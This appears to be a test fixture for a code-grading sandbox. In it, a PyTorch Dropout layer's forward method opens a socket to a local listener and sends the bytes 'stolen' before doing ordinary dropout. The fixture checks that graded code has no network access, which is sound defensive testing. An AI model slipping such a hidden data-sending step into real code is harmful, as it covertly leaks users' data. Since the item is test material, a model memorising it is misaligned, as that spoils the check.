"""Dropout.forward opens a TCP connection to a listener on 127.0.0.1 (the test
starts it) to send the data it was given.

The worker has no network: the connection fails inside the student's code and
the listener receives nothing.

Item: Dropout
Says: Error
Fails: shape_dtype, values_zero_or_scaled
Needs: network
"""
# %%
import torch
import torch.nn as nn
import socket

# %%
class Dropout(nn.Module):
    def __init__(self, p):
        super().__init__()
        self.p = p

    def forward(self, input):
        with socket.create_connection(('127.0.0.1', __PORT__), timeout=2) as s:
            s.sendall(b'stolen')
        if not self.training:
            return input
        keep_prob = 1 - self.p
        mask = torch.bernoulli(torch.full_like(input, keep_prob))
        return input * mask / keep_prob
